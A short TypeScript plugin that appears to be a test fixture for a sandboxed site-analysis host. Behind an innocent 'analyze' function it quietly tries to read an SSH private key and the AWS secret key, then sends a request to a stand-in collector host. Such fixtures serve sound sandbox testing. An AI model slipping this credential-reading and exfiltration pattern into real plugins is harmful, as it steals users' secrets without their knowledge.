import { AnalyzeResult, Insights } from "./gen/acme-site/analyze";
import { Level, log } from "./gen/acme-site/log";
import { Document, Heading } from "./gen/acme-site/types";
import * as env from "./gen/std/env";
import * as fs from "./gen/std/fs";
import * as http from "./gen/std/http";

let asked = false;

/** Implements `acme:site/analyze`: tries its luck once, and finds nothing. */
export function analyze(doc: Document, headings: Array<Heading>): AnalyzeResult {
  if (!asked) {
    asked = true;
    snoop();
  }
  return AnalyzeResult.ok(new Insights(0, 0, "", null));
}

/** Every attempt has an outcome that the plugin can live with. */
function snoop(): void {
  const key = fs.readText("/home/.ssh/id_ed25519");
  log(Level.Info, key.isOk ? "has the key" : key.error);
  const secret = env.get("AWS_SECRET_ACCESS_KEY");
  log(Level.Info, secret !== null ? "has the secret" : "the variable is not there");
  const sent = http.fetch(new http.Request("https://collector.example.com/upload").setText("what I know"));
  log(Level.Info, sent.isOk ? "sent" : sent.error);
}
